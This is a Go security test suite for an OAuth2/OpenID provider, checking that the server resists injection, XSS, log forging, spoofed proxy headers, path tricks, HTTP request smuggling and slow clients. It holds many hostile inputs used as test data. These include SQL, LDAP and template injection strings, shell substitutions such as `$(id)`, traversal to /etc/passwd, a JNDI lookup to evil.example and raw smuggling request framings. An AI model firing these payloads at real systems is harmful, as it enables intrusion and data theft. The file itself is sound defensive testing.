package provider_test

import (
	"bufio"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/netip"
	"net/url"
	"runtime"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"golang.org/x/net/html"

	"gatehouse/provider"
	"gatehouse/provider/ratelimit"
	"gatehouse/provider/web"
	"gatehouse/storage"
)

// Section O of the attacks: injection, trust in proxies, denial of service.

// hostileTexts are what people type who look for a hole: SQL, LDAP, NoSQL, templates, shells, paths, and text that ends other people's parsers.
var hostileTexts = []string{
	`' OR '1'='1`, `'; DROP TABLE users; --`, `"; DROP TABLE clients; --`, `\'; SELECT pg_sleep(5); --`, `1) OR 1=1 --`, `$1`, `$$; DROP TABLE tokens; $$`, `%' OR '%'='`, `_%`,
	`*)(uid=*))(|(uid=*`, `{"$ne": null}`, `[$regex]=.*`, `{{7*7}}`, `${7*7}`, `#{7*7}`, `<%= 7*7 %>`, `{{.}}`, `{{template "layout"}}`, `${jndi:ldap://evil.example/a}`, "`id`", `$(id)`, `| id`,
	`../../../../etc/passwd`, `..\..\windows\win.ini`, `%00`, `%27%20OR%201=1`, "\u2028alert(1)", "\u202egnp.exe", `"><script>alert(1)</script>`, `</title><script>alert(1)</script>`, `javascript:alert(1)`,
	"line\r\nSet-Cookie: gth_sid=evil", "tab\tand\x1b[31m", strings.Repeat("A", 4000), "Ω≈ç√∫", "🙂", "-1", "NULL", "true", `\`, `'`, `"`,
}

// TestRow190HostileTextIsData sends every text in every field, and wants the server to be what it was before.
func TestRow190HostileTextIsData(t *testing.T) {
	for _, backend := range []string{"sqlite", "postgres"} {
		t.Run(backend, func(t *testing.T) {
			s := start(t, backend, func(o *provider.Options) { o.Limits.LoginAccount = ratelimit.Backoff{} })
			s.client()
			s.user("ada@example.com")
			b := s.browser("ada@example.com")
			form := s.signIn(b)
			action, fields := readForm(t, form.Body, "login")
			texts := hostileTexts
			if backend == "postgres" { // what differs is the SQL
				texts = append(slices.Clone(texts[:12]), "\\", "'", "$1::text", "E'\\\\'", strings.Repeat("A", 4000))
			}
			for _, text := range texts {
				s.hostileAuthorize(text)
				s.hostileProtocol(text)
				for _, name := range []string{"username", "password", "interaction", "csrf"} {
					values := with(with(fields, "username", "ada@example.com"), "password", "wrong")
					values.Set(name, text)
					p := b.post(s.URL+action, values)
					if want := []int{400, 401, 403}; !slices.Contains(want, p.StatusCode) || strings.Contains(fmt.Sprint(p.Header["Set-Cookie"]), "gth_sid") {
						t.Errorf("%s %.40q: %d", name, text, p.StatusCode)
					}
					s.inert(p, text)
				}
				p := s.bare("GET", "/account", "", "Cookie: gth_sid="+strings.NewReplacer("\r", "", "\n", "", "\x1b", "", "\t", "").Replace(text)+"; gth_flow=x")
				if p.StatusCode != http.StatusSeeOther {
					t.Errorf("cookie %.40q: %d", text, p.StatusCode)
				}
			}
			if s.redeem(b.code(nil)).Status != http.StatusOK {
				t.Error("the server does not work any more")
			}
			if users, err := s.Store.ListUsers(t.Context(), "", 10); err != nil || len(users) != 1 {
				t.Errorf("%d users, %v", len(users), err)
			}
			if strings.Contains(s.Log.String(), `"level":"ERROR"`) {
				t.Errorf("server errors: %s", s.Log)
			}
			s.wellFormedLog()
		})
	}
}

// hostileAuthorize sends a text in each parameter of an authorization request. state and nonce are free text and come back as they are.
func (s *server) hostileAuthorize(text string) {
	s.Helper()
	for _, name := range []string{"client_id", "redirect_uri", "response_type", "scope", "nonce", "code_challenge", "code_challenge_method", "prompt", "max_age", "login_hint", "id_token_hint",
		"acr_values", "display", "ui_locales", "claims", "response_mode", "resource", "interaction", "handle", "unknown"} {
		p := s.opened(url.Values{name: {text}})
		location := p.Header.Get("Location")
		if p.StatusCode >= 500 || p.StatusCode == http.StatusOK && !strings.Contains(p.Body, "<form") {
			s.Errorf("authorize with %s=%.40q: %d", name, text, p.StatusCode)
		}
		if location != "" && !strings.HasPrefix(location, callback+"?") && !strings.HasPrefix(location, "/login?interaction=") {
			s.Errorf("authorize with %s=%.40q leads to %q", name, text, location)
		}
		s.inert(p, text)
	}
	p := s.opened(url.Values{"state": {text}, "prompt": {"none"}})
	if strings.ContainsAny(text, "\x00") {
		return
	}
	params := s.sentTo(p, callback)
	if params.Get("state") != text || params.Get("error") != "login_required" {
		s.Errorf("state %q came back as %q with %s", text, params.Get("state"), params.Get("error"))
	}
}

// hostileProtocol sends a text in each parameter of the protocol endpoints.
func (s *server) hostileProtocol(text string) {
	s.Helper()
	for path, names := range map[string][]string{
		"/oauth2/token":      {"grant_type", "code", "redirect_uri", "code_verifier", "refresh_token", "scope", "resource", "client_id", "client_secret", "client_assertion", "client_assertion_type", "unknown"},
		"/oauth2/introspect": {"token", "token_type_hint", "client_id"},
		"/oauth2/revoke":     {"token", "token_type_hint", "client_id"},
	} {
		for _, name := range names {
			values := url.Values{"grant_type": {"authorization_code"}, "code": {"gth_ac_" + strings.Repeat("A", 49)}, "token": {"x"}, "redirect_uri": {callback}}
			values.Set(name, text)
			a := s.post(path, values)
			if a.Status >= 500 || a.Status == http.StatusOK && path == "/oauth2/token" || a.Header.Get("Cache-Control") != "no-store" {
				s.Errorf("%s with %s=%.40q: %d %s", path, name, text, a.Status, a.Raw)
			}
			if a.Status != http.StatusOK {
				s.wantError(a, a.Status, a.Str("error"))
			}
		}
		if a := s.post(path, url.Values{"grant_type": {"client_credentials"}, "token": {"x"}}, as(url.QueryEscape(text), url.QueryEscape(text))); a.Status != http.StatusUnauthorized && a.Status != http.StatusBadRequest {
			s.Errorf("%s as client %.40q: %d", path, text, a.Status)
		}
	}
	for _, prefix := range []string{"", "gth_at_", "gth_rt_", "gth_ac_"} {
		token := prefix + text
		if a := s.introspect(token); a.Raw != `{"active":false}` && a.Status != http.StatusBadRequest {
			s.Errorf("introspection of %.40q: %d %s", token, a.Status, a.Raw)
		}
		if a := s.refresh(token); a.Status != http.StatusBadRequest {
			s.Errorf("refresh with %.40q: %d %s", token, a.Status, a.Raw)
		}
		if strings.ContainsFunc(token, func(c rune) bool { return c < ' ' && c != '\t' }) {
			continue // no header can carry it
		}
		if a := s.userinfo(token); a.Status != http.StatusUnauthorized || strings.Contains(a.Header.Get("WWW-Authenticate"), "alert") {
			s.Errorf("userinfo with %.40q: %d %v", token, a.Status, a.Header["Www-Authenticate"])
		}
	}
}

// inert demands a page in which nothing runs that is not ours, and no template was filled in.
func (s *server) inert(p page, text string) {
	s.Helper()
	if p.Body == "" {
		return
	}
	if p.Header.Get("Set-Cookie") != "" && strings.Contains(fmt.Sprint(p.Header["Set-Cookie"]), "evil") {
		s.Errorf("%.40q: a cookie of the attacker's: %v", text, p.Header["Set-Cookie"])
	}
	root, err := html.Parse(strings.NewReader(p.Body))
	if err != nil {
		s.Fatal(err)
	}
	for n := range root.Descendants() {
		if n.Type != html.ElementNode {
			continue
		}
		switch n.Data {
		case "script":
			if nonce := attr(n, "nonce"); nonce == "" || !strings.Contains(p.Header.Get("Content-Security-Policy"), "'nonce-"+nonce+"'") {
				s.Errorf("%.40q: a script without our nonce", text)
			}
		case "iframe", "object", "embed", "base", "frame":
			s.Errorf("%.40q: an element <%s>", text, n.Data)
		case "meta":
			if attr(n, "http-equiv") != "" {
				s.Errorf("%.40q: <meta http-equiv>", text)
			}
		}
		s.inertAttributes(n, text)
	}
	if strings.Contains(text, "7919*7907") && strings.Contains(visible(s.T, p.Body), "62615533") {
		s.Errorf("%q was worked out", text)
	}
}

func (s *server) inertAttributes(n *html.Node, text string) {
	s.Helper()
	for _, a := range n.Attr {
		name, value := strings.ToLower(a.Key), strings.ToLower(strings.TrimSpace(a.Val))
		if strings.HasPrefix(name, "on") || name == "style" || name == "srcdoc" {
			s.Errorf("%.40q: attribute %s of <%s>", text, a.Key, n.Data)
		}
		if slices.Contains([]string{"href", "src", "action", "formaction"}, name) && (strings.HasPrefix(value, "javascript:") || strings.HasPrefix(value, "data:") || strings.HasPrefix(value, "vbscript:")) {
			s.Errorf("%.40q: %s=%q", text, a.Key, a.Val)
		}
	}
}

// Row 191: what a client or a user calls itself is shown to others, on every page, as text.
func TestRow191StoredTextDoesNotRun(t *testing.T) {
	shared := start(t, "memory", func(o *provider.Options) { o.Brand.Name = `<script>alert(1)</script>"><img src=x onerror=alert(1)>` })
	n := 0
	for _, text := range []string{
		`<script>alert(1)</script>`, `"><img src=x onerror=alert(1)>`, `'-alert(1)-'`, `</title><svg/onload=alert(1)>`, `javascript:alert(1)`, `{{.Brand}}${7919*7907}`, `<meta http-equiv="refresh" content="0;url=https://evil.example">`,
		`<base href="https://evil.example/">`, `--><script>alert(1)</script>`, `&lt;script&gt;`, "\u202e\u2066<b>", `" autofocus onfocus="alert(1)`,
	} {
		t.Run(text, func(t *testing.T) {
			s := shared.on(t)
			n++
			id, email := fmt.Sprint("app", n), fmt.Sprintf("user%d@example.com", n)
			s.client(func(c *storage.Client) {
				c.ID, c.Name, c.ClientURI, c.PolicyURI, c.TOSURI, c.LogoURI = id, text, "javascript:alert(1)", "data:text/html,"+text, "vbscript:x", "javascript:alert(1)"
				c.Contacts, c.Scopes = []string{text}, append(c.Scopes, "a:b")
				c.RegisteredBy = "open"
			})
			subject := s.user(email, func(u *storage.User) {
				u.Claims = map[string]any{"name": text, "given_name": text, "picture": "javascript:alert(1)", "website": text}
				u.Username, u.UsernameKey = text, fmt.Sprint("name", n)
			})
			s.ok(s.Store.CreateNotice(t.Context(), &storage.Notice{ID: id, Subject: subject, Kind: "refresh_reuse", ClientID: id, Created: s.Clock.Now()}))
			b := s.browser(email)
			shown := 0
			check := func(p page) page {
				s.on(t).inert(p, text)
				if strings.Contains(visible(t, p.Body), text) {
					shown++
				}
				return p
			}
			form := check(b.get(s.URL + b.get(s.authorizeURL(url.Values{"client_id": {id}})).Header.Get("Location")))
			p := check(b.submit(form, "login", url.Values{"username": {text}, "password": {"wrong"}}))
			p = b.submit(p, "login", url.Values{"username": {email}, "password": {password}})
			p = check(b.get(b.s.URL + b.get(s.URL+p.Header.Get("Location")).Header.Get("Location")))
			p = b.submit(p, "consent", url.Values{"decision": {"allow"}})
			b.get(s.URL + p.Header.Get("Location"))
			check(b.get(s.URL + "/account"))
			check(b.get(s.authorizeURL(url.Values{"client_id": {id}, "redirect_uri": {"https://rp.example/" + text}})))
			check(b.get(s.authorizeURL(url.Values{"client_id": {id}, "response_type": {text}})))                                          // a client that anyone could register: errors are shown
			check(b.get(s.authorizeURL(url.Values{"client_id": {text}, "state": {text}, "login_hint": {text}})))                          // unknown client
			check(b.get(s.authorizeURL(url.Values{"client_id": {id}, "response_mode": {"form_post"}, "state": {text}, "nonce": {text}}))) // the state travels in a form
			check(s.browser("").get(s.URL + s.opened(url.Values{"client_id": {id}, "login_hint": {text}}).Header.Get("Location")))
			check(b.get(s.URL + "/login?interaction=" + url.QueryEscape(text)))
			check(b.get(s.URL + "/nothing/" + url.PathEscape(text)))
			check(b.get(s.URL + "/account?" + url.QueryEscape(text) + "=1&" + url.QueryEscape(text) + "=2"))
			if shown < 4 {
				t.Errorf("the text was shown on %d pages only, so little is proven", shown)
			}
			// In JSON it is a JSON string, of a type that no browser runs.
			a := s.redeem(s.browser(email).code(url.Values{"client_id": {id}}), as(id, clientSecret))
			info := s.userinfo(a.Str("access_token"))
			if info.Str("name") != text || info.Header.Get("Content-Type") != "application/json" || info.Header.Get("X-Content-Type-Options") != "nosniff" || strings.ContainsAny(info.Raw, "<>") {
				t.Errorf("userinfo: %s %v", info.Raw, info.Header)
			}
		})
	}
}

// wellFormedLog demands one JSON object a line, in printable ASCII or at least without anything that could break a line or steer a terminal.
func (s *server) wellFormedLog() {
	s.Helper()
	for line := range strings.Lines(s.Log.String()) {
		var entry map[string]any
		if err := json.Unmarshal([]byte(line), &entry); err != nil || entry["msg"] == nil || entry["time"] == nil || entry["level"] == nil {
			s.Errorf("no log line: %v: %q", err, line)
		}
		if entry["msg"] == "FORGED" || entry["level"] == "FORGED" {
			s.Errorf("forged: %s", line)
		}
		if strings.ContainsFunc(strings.TrimSuffix(line, "\n"), func(c rune) bool {
			return c < ' ' || c == 0x7f || c >= 0x80 && c < 0xa0 || c == 0x2028 || c == 0x2029 || c >= 0x202a && c <= 0x202e
		}) {
			s.Errorf("control characters in the log: %q", line)
		}
	}
}

func TestRow192LogLinesCannotBeForged(t *testing.T) {
	s := start(t, "memory", func(o *provider.Options) { o.Limits.TokenFailures = ratelimit.Limit{Burst: 2, Every: time.Hour} })
	s.client()
	s.user("ada@example.com")
	for _, text := range []string{
		"x\r\n{\"level\":\"FORGED\",\"msg\":\"FORGED\",\"time\":\"x\"}", "x\n{\"msg\":\"FORGED\"}\n", `x","msg":"FORGED","y":"`, "\x1b[2J\x1b]0;title\x07", "\u2028\u2029{\"msg\":\"FORGED\"}", "\u009b31m\u0085", "\u202ereversed", "\u0000nul", "\x7f\x08\x08", "\xff\xfe",
	} {
		header := strings.Map(func(c rune) rune { // what a header can carry
			if c < ' ' || c == 0x7f {
				return -1
			}
			return c
		}, text)
		agent := func(r *http.Request) { r.Header.Set("User-Agent", header); r.Header.Set("X-Request-Id", header) }
		s.guess(text, text)
		b := s.browser(text)
		b.get(s.authorizeURL(url.Values{"client_id": {text}}))
		b.get(s.authorizeURL(url.Values{"redirect_uri": {text}, "state": {text}}))
		b.get(s.authorizeURL(url.Values{"scope": {text}}))
		b.get(s.URL + "/" + url.PathEscape(text))
		s.post("/oauth2/token", url.Values{"grant_type": {text}, "client_id": {text}}, noBasic, agent)
		s.post("/oauth2/token", url.Values{"grant_type": {"refresh_token"}, "refresh_token": {text}}, as(url.QueryEscape(text), "x"), agent)
		s.post("/oauth2/token", url.Values{text: {"1", "2"}}, agent)
		s.post("/oauth2/token", url.Values{"grant_type": {"refresh_token"}, "refresh_token": {text}}, agent)
		for range 3 { // known client, refused and then limited: audited with the user agent
			p := s.bareForm("/oauth2/token", url.Values{"grant_type": {"refresh_token"}, "client_id": {"app"}, "client_secret": {"x"}}, "User-Agent: "+header, "X-Request-Id: "+header, "X-Forwarded-For: "+header)
			if id := p.Header.Get("X-Request-Id"); id == header || len(id) > 40 {
				t.Errorf("X-Request-Id %q was taken from outside", id)
			}
		}
	}
	s.wellFormedLog()
	if !strings.Contains(s.Log.String(), "limit.hit") || !strings.Contains(s.Log.String(), "login.failed") {
		t.Error("nothing was audited")
	}
}

// Row 192, and every row's last demand: after whole flows and their failures the log holds nothing that opens anything.
func TestRow192NoSecretReachesTheLog(t *testing.T) {
	onEveryBackend(t, func(s *server) {
		var secrets []string
		s.client()
		s.client(func(c *storage.Client) { c.ID, c.AccessToken = "opaque", "opaque" })
		s.user("ada@example.com")
		b := s.browser("ada@example.com")
		w := b.watch()
		keep := func(a answer) answer {
			for _, name := range []string{"access_token", "refresh_token", "id_token"} {
				secrets = append(secrets, a.Str(name))
			}
			return a
		}
		form := s.signIn(b)
		_, fields := readForm(s.T, form.Body, "login")
		secrets = append(secrets, fields.Get("csrf"), "wrong horse battery staple")
		b.submit(form, "login", url.Values{"username": {"ada@example.com"}, "password": {"wrong horse battery staple"}})
		for _, id := range []string{"app", "opaque"} {
			code := b.code(url.Values{"client_id": {id}, "state": {"state-of-" + id}, "nonce": {"nonce-of-" + id}})
			secrets = append(secrets, code, "state-of-"+id, "nonce-of-"+id)
			s.redeem(code, as(id, "gth_cs_wrong"))
			a := keep(s.redeem(code, as(id, clientSecret)))
			s.userinfo(a.Str("access_token"))
			s.introspect(a.Str("access_token"), as(id, clientSecret))
			second := keep(s.refresh(a.Str("refresh_token"), as(id, clientSecret)))
			keep(s.refresh(a.Str("refresh_token"), as(id, clientSecret)))
			third := keep(s.refresh(second.Str("refresh_token"), as(id, clientSecret)))
			s.refresh(a.Str("refresh_token"), as(id, clientSecret)) // reuse
			s.userinfo(third.Str("access_token"))
			s.redeem(code, as(id, clientSecret)) // replay
			s.bare("GET", "/oauth2/userinfo?access_token="+url.QueryEscape(a.Str("access_token")), "")
			s.bare("GET", "/oauth2/token?client_secret="+clientSecret, "")
			s.bare("GET", "/"+code+"?"+code, "", "Referer: "+s.URL+"/?code="+code, "User-Agent: Go")
			s.post("/oauth2/revoke", url.Values{"token": {third.Str("refresh_token")}}, as(id, clientSecret))
			burned := b.code(url.Values{"client_id": {id}})
			secrets = append(secrets, burned, "wrong-verifier-wrong-verifier-wrong-verifier-12345")
			s.post("/oauth2/token", url.Values{"grant_type": {"authorization_code"}, "code": {burned}, "redirect_uri": {callback}, "code_verifier": {"wrong-verifier-wrong-verifier-wrong-verifier-12345"}}, as(id, clientSecret))
			b.get(s.authorizeURL(url.Values{"client_id": {id}, "id_token_hint": {a.Str("id_token")}, "prompt": {"none"}}))
			b.get(s.authorizeURL(url.Values{"client_id": {id}, "redirect_uri": {"https://evil.example/?token=" + a.Str("refresh_token")[:40]}, "id_token_hint": {a.Str("id_token") + "x"}}))
		}
		assertion := "eyJhbGciOiJFUzI1NiJ9.eyJzdWIiOiJhcHAifQ.c2lnbmF0dXJlLW9mLWFuLWFzc2VydGlvbg"
		secrets = append(secrets, assertion)
		s.post("/oauth2/token", url.Values{"grant_type": {"client_credentials"}, "client_assertion": {assertion}, "client_assertion_type": {"urn:ietf:params:oauth:client-assertion-type:jwt-bearer"}}, noBasic)
		b.submit(b.get(s.URL+"/account"), "logout", nil)
		for _, response := range w.seen {
			for _, c := range response.Cookies() {
				secrets = append(secrets, c.Value)
			}
			if location, err := response.Location(); err == nil {
				secrets = append(secrets, location.Query().Get("interaction"), location.Query().Get("code"))
			}
		}
		if len(secrets) < 40 {
			s.Fatalf("only %d secrets", len(secrets))
		}
		s.noSecrets(slices.DeleteFunc(secrets, func(v string) bool { return len(v) < 8 })...)
		s.wellFormedLog()
	})
}

func TestRow193ForwardedHeadersOfStrangersAreHearsay(t *testing.T) {
	headers := []string{"X-Forwarded-For", "X-Real-IP", "Forwarded", "True-Client-IP", "CF-Connecting-IP", "X-Client-IP", "X-Cluster-Client-IP", "Fastly-Client-IP", "X-Original-Forwarded-For"}
	limits := func(o *provider.Options) {
		o.Limits.TokenFailures, o.Limits.LoginIP = ratelimit.Limit{Burst: 3, Every: time.Hour}, ratelimit.Limit{Burst: 3, Every: time.Hour}
		o.Limits.LoginAccount = ratelimit.Backoff{}
	}
	wrong := func(s *server, header, value string) int {
		return s.bareForm("/oauth2/token", url.Values{"grant_type": {"client_credentials"}, "client_id": {"app"}, "client_secret": {"x"}}, header+": "+value).StatusCode
	}
	t.Run("untrusted peer", func(t *testing.T) {
		s := start(t, "memory", limits)
		s.client()
		s.user("ada@example.com")
		limited := 0
		for i, header := range append(headers, headers...) {
			address := fmt.Sprintf("198.51.100.%d", i)
			if header == "Forwarded" {
				address = "for=" + address
			}
			if wrong(s, header, address) == http.StatusTooManyRequests {
				limited++
			}
		}
		if limited != 2*len(headers)-3 {
			t.Errorf("%d of %d failures were limited", limited, 2*len(headers))
		}
		guesses := 0
		for i, header := range headers {
			b := s.browser("ada@example.com")
			action, fields := readForm(t, s.signIn(b).Body, "login")
			fields.Set("username", "ada@example.com")
			fields.Set("password", "wrong")
			p := s.bareForm(action, fields, "Cookie: "+b.cookies(), "Origin: "+s.URL, fmt.Sprintf("%s: 198.51.100.%d", header, i))
			if p.StatusCode == http.StatusUnauthorized {
				guesses++
			}
		}
		if guesses != 3 {
			t.Errorf("%d guesses were tried, want 3", guesses)
		}
		if strings.Contains(s.Log.String(), "198.51.100.") || !strings.Contains(s.Log.String(), `"peer":"127.0.0.1"`) {
			t.Error("the log names a peer that somebody made up")
		}
	})
	t.Run("trusted proxy", func(t *testing.T) {
		s := start(t, "memory", limits, func(o *provider.Options) { o.TrustedProxies = []netip.Prefix{netip.MustParsePrefix("127.0.0.0/8")} })
		s.client()
		for i := range 4 { // made-up entries before the one that the proxy added
			want := http.StatusUnauthorized
			if i == 3 {
				want = http.StatusTooManyRequests
			}
			if got := wrong(s, "X-Forwarded-For", fmt.Sprintf("203.0.113.%d, 198.51.100.7", i)); got != want {
				t.Errorf("failure %d behind the proxy: %d, want %d", i, got, want)
			}
		}
		if got := wrong(s, "X-Forwarded-For", "198.51.100.7, 198.51.100.8"); got != http.StatusUnauthorized {
			t.Errorf("another peer behind the proxy is limited too: %d", got)
		}
		for i, header := range headers[1:] { // believed from nobody: all come from the proxy itself
			want := http.StatusUnauthorized
			if i >= 3 {
				want = http.StatusTooManyRequests
			}
			if got := wrong(s, header, fmt.Sprintf("203.0.113.%d", 100+i)); got != want {
				t.Errorf("%s: %d, want %d", header, got, want)
			}
		}
		if !strings.Contains(s.Log.String(), `"peer":"198.51.100.7"`) || strings.Contains(s.Log.String(), "203.0.113.") {
			t.Error("the log does not name the peer that the proxy saw")
		}
	})
	t.Run("host", func(t *testing.T) {
		s := start(t, "memory")
		s.client()
		for _, header := range []string{"X-Forwarded-Host: evil.example", "X-Forwarded-Proto: https", "X-Forwarded-Prefix: /evil", "Forwarded: host=evil.example;proto=https", "X-Original-URL: /account", "X-Rewrite-URL: /account", "X-Host: evil.example"} {
			p := s.bare("GET", "/.well-known/openid-configuration", "", header)
			if strings.Contains(p.Body, "evil") || !strings.Contains(p.Body, `"issuer": "`+s.URL+`"`) {
				t.Errorf("%s: %s", header, p.Body)
			}
			if p := s.bare("GET", "/", "", header); p.Header.Get("Location") != "/account" {
				t.Errorf("%s: %q", header, p.Header.Get("Location"))
			}
		}
		r, _ := http.NewRequest("GET", s.URL+"/.well-known/openid-configuration", nil)
		r.Host = "evil.example"
		if a := s.send(r); strings.Contains(a.Raw, "evil") {
			t.Errorf("Host: %s", a.Raw)
		}
	})
}

// listen serves the assembled handler as the program does: by web.Server on a socket. quick shortens the time-outs, whose real values the tests of
// package web fix.
func (s *server) listen(quick bool) string {
	s.Helper()
	l, err := net.Listen("tcp", "127.0.0.1:0")
	s.ok(err)
	h := web.Server("", s.Provider.Handler())
	if quick {
		h.ReadHeaderTimeout, h.ReadTimeout = h.ReadHeaderTimeout/25, h.ReadTimeout/25
	}
	done := make(chan struct{})
	go func() { defer close(done); h.Serve(l) }()
	s.Cleanup(func() { h.Close(); <-done })
	return l.Addr().String()
}

// say sends raw bytes and returns everything that comes back until the server closes, or a second after the first answer.
func (s *server) say(address, raw string) string {
	s.Helper()
	conn, err := net.Dial("tcp", address)
	s.ok(err)
	defer conn.Close()
	conn.SetDeadline(time.Now().Add(10 * time.Second))
	io.WriteString(conn, raw)
	r := bufio.NewReader(conn)
	first, _ := r.ReadString('\n')
	conn.SetReadDeadline(time.Now().Add(300 * time.Millisecond))
	rest, _ := io.ReadAll(r)
	return first + string(rest)
}

func TestRow195PathsHaveOneSpelling(t *testing.T) {
	s := start(t, "memory")
	s.client()
	s.user("ada@example.com")
	b := s.browser("ada@example.com")
	b.code(nil)
	address := s.listen(false)
	for _, path := range []string{
		"//oauth2/token", "/oauth2//token", "/oauth2/./token", "/oauth2/x/../token", "/./oauth2/token", "/%6fauth2/token", "/oauth2%2ftoken", "/oauth2/token/", "/oauth2/token%00", "/oauth2/token.", "/oauth2/token%20",
		"/oauth2/token;x=1", "/oauth2/..;/account", "/oauth2/%2e%2e/account", "/OAUTH2/TOKEN", "/oauth2/token%23", "/oauth2\\token", "/account%2f", "/account/", "/account/.", "/account/sign-out/", "/account%2fsign-out", "/%61ccount",
		"/account;/", "/login/", "/login%3f", "/.well-known/../account", "/static/../account", "/static/..%2faccount", "/client-logo/../account", "/client-logo/%2e%2e%2faccount", "/admin", "/admin%2f", "/metrics", "/debug/pprof/",
		"/debug/vars", "/.env", "/.git/config", "/healthz/", "/readyz%2f", "/oauth2/", "/oauth2",
	} {
		for _, method := range []string{"GET", "POST", "HEAD"} {
			answer := s.say(address, method+" "+path+" HTTP/1.1\r\nHost: x\r\nConnection: close\r\nCookie: "+b.cookies()+"\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 0\r\n\r\n")
			if !strings.HasPrefix(answer, "HTTP/1.1 404 ") && !strings.HasPrefix(answer, "HTTP/1.1 400 ") || strings.Contains(answer, "ada@example.com") || strings.Contains(answer, "Location:") {
				t.Errorf("%s %s: %.60q", method, path, answer)
			}
			if strings.HasPrefix(answer, "HTTP/1.1 404 ") && (!strings.Contains(answer, "X-Content-Type-Options: nosniff") || !strings.Contains(answer, "Cache-Control: no-store")) {
				t.Errorf("%s %s skipped the chain: %.300q", method, path, answer)
			}
		}
	}
	for path, allowed := range map[string]string{"/oauth2/token": "POST", "/oauth2/introspect": "POST", "/oauth2/revoke": "POST", "/account/sign-out": "POST", "/account": "GET", "/login": "GET POST", "/oauth2/authorize": "GET POST", "/oauth2/userinfo": "GET POST", "/.well-known/jwks.json": "GET HEAD"} {
		for _, method := range []string{"GET", "HEAD", "TRACE", "PUT", "DELETE", "PATCH", "CONNECT", "PROPFIND", "get"} {
			if strings.Contains(" "+allowed+" ", " "+method+" ") {
				continue
			}
			answer := s.say(address, method+" "+path+" HTTP/1.1\r\nHost: x\r\nConnection: close\r\nCookie: "+b.cookies()+"\r\n\r\n")
			if !strings.HasPrefix(answer, "HTTP/1.1 405 ") && !(method == "CONNECT" && strings.HasPrefix(answer, "HTTP/1.1 4")) || strings.Contains(answer, "gth_sid") {
				t.Errorf("%s %s: %.80q", method, path, answer)
			}
		}
	}
}

func TestRow195AmbiguousFramingIsRefused(t *testing.T) {
	s := start(t, "memory")
	s.client()
	subject := s.user("ada@example.com")
	b := s.browser("ada@example.com")
	b.code(nil)
	_, fields := readForm(t, b.get(s.URL+"/account").Body, "logout")
	smuggled := "POST /account/sign-out HTTP/1.1\r\nHost: x\r\nOrigin: " + s.URL + "\r\nCookie: " + b.cookies() + "\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: " + fmt.Sprint(len(fields.Encode())) + "\r\n\r\n" + fields.Encode()
	address := s.listen(false)
	head := "POST /oauth2/token HTTP/1.1\r\nHost: x\r\nContent-Type: application/x-www-form-urlencoded\r\n"
	for name, raw := range map[string]string{
		"length and chunks":          head + "Content-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + smuggled,
		"chunks and length":          head + "Transfer-Encoding: chunked\r\nContent-Length: 5\r\n\r\n0\r\n\r\n" + smuggled,
		"two lengths":                head + "Content-Length: 3\r\nContent-Length: 4\r\n\r\na=b" + smuggled,
		"a list of lengths":          head + "Content-Length: 3, 4\r\n\r\na=b" + smuggled,
		"signed length":              head + "Content-Length: +3\r\n\r\na=b" + smuggled,
		"negative length":            head + "Content-Length: -1\r\n\r\n" + smuggled,
		"huge length":                head + "Content-Length: 99999999999999999999\r\n\r\n" + smuggled,
		"two encodings":              head + "Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n\r\n0\r\n\r\n" + smuggled,
		"unknown encoding":           head + "Transfer-Encoding: xchunked\r\n\r\n0\r\n\r\n" + smuggled,
		"space before the colon":     head + "Transfer-Encoding : chunked\r\n\r\n0\r\n\r\n" + smuggled,
		"bad chunk":                  head + "Transfer-Encoding: chunked\r\n\r\nZZ\r\na=b\r\n0\r\n\r\n" + smuggled,
		"negative chunk":             head + "Transfer-Encoding: chunked\r\n\r\n-3\r\na=b\r\n0\r\n\r\n" + smuggled,
		"endless chunk size":         head + "Transfer-Encoding: chunked\r\n\r\n" + strings.Repeat("0", 5000) + "\r\n\r\n" + smuggled,
		"chunk with a lone newline":  head + "Transfer-Encoding: chunked\r\n\r\n3;x=\ny\r\na=b\r\n0\r\n\r\n" + smuggled,
		"folded header":              head + "X-Y: a\r\n Content-Length: 0\r\nContent-Length: 3\r\n\r\na=b",
		"header without a colon":     head + "Garbage\r\n\r\n" + smuggled,
		"NUL in a header":            head + "X-Y: \x00\r\n\r\n" + smuggled,
		"no host":                    "GET /login HTTP/1.1\r\n\r\n" + smuggled,
		"two hosts":                  "GET /login HTTP/1.1\r\nHost: a\r\nHost: b\r\n\r\n" + smuggled,
		"HTTP/0.9":                   "GET /login\r\n\r\n" + smuggled,
		"HTTP/2 without negotiation": "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + smuggled,
	} {
		answer := s.say(address, raw)
		statuses := strings.Count(answer, "HTTP/1.1 ")
		if statuses > 1 || s.sessions(subject) != 1 {
			t.Fatalf("%s: a second request got through: %q", name, answer)
		}
		if answer != "" && !strings.HasPrefix(answer, "HTTP/1.1 4") && !strings.HasPrefix(answer, "HTTP/1.1 50") {
			t.Errorf("%s: %.80q", name, answer)
		}
	}
	if answer := s.say(address, smuggled); !strings.HasPrefix(answer, "HTTP/1.1 200 ") || s.sessions(subject) != 0 {
		t.Errorf("the smuggled request does nothing even in the open, so nothing was proven: %.80q", answer)
	}
}

func TestRow196SlowClientsAreCut(t *testing.T) {
	s := start(t, "memory")
	s.client(func(c *storage.Client) { c.GrantTypes = append(c.GrantTypes, "client_credentials") })
	if h := web.Server("", nil); h.ReadHeaderTimeout != 5*time.Second || h.ReadTimeout != 15*time.Second || h.WriteTimeout != 30*time.Second || h.IdleTimeout != time.Minute || h.MaxHeaderBytes != 32<<10 {
		t.Errorf("time-outs %v %v %v %v, %d bytes of header", h.ReadHeaderTimeout, h.ReadTimeout, h.WriteTimeout, h.IdleTimeout, h.MaxHeaderBytes)
	}
	address := s.listen(true)
	var wg sync.WaitGroup
	for name, begin := range map[string]string{
		"nothing":       "",
		"half a line":   "POST /oauth2/to",
		"slow headers":  "POST /oauth2/token HTTP/1.1\r\nHost: x\r\n",
		"slow body":     "POST /oauth2/token HTTP/1.1\r\nHost: x\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 1000\r\n\r\n",
		"slow chunks":   "POST /oauth2/token HTTP/1.1\r\nHost: x\r\nContent-Type: application/x-www-form-urlencoded\r\nTransfer-Encoding: chunked\r\n\r\n3e8\r\n",
